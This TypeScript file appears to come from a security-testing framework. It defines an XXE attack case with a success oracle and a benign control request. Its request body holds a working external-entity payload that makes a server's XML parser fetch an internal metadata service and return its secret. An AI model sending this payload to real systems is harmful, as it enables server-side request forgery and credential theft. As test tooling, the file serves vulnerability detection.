import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Has the XML reader fetch a service that listens inside only. */
export const xxeHttp: Attack = defineAttack({
  id: 'xxe-http',
  class: 'xxe',
  title: 'Has the XML reader fetch a service that listens inside only',
  cwe: 611,
  capec: 201,
  technique: 'T1552.005',
  preconditions: [],

  steps: ({ visitor, sink }) =>
    visitor.send({
      method: 'POST',
      path: '/api/price-list',
      headers: { 'content-type': 'text/xml' },
      body: `<!DOCTYPE p [<!ENTITY k SYSTEM '${sink.url('metadata')}'>]><prices><price product="1">&k;</price></prices>`,
    }),
  oracle: (answer, { sink }) => sink.hits().length > 0 && answer.text.includes(sink.secret),
  twin: ({ visitor }) =>
    visitor.send({
      method: 'POST',
      path: '/api/price-list',
      headers: { 'content-type': 'application/xml' },
      body: '<?xml version="1.0"?><prices><price product="4">79.00</price><price product="5">239.00</price></prices>',
    }),
})
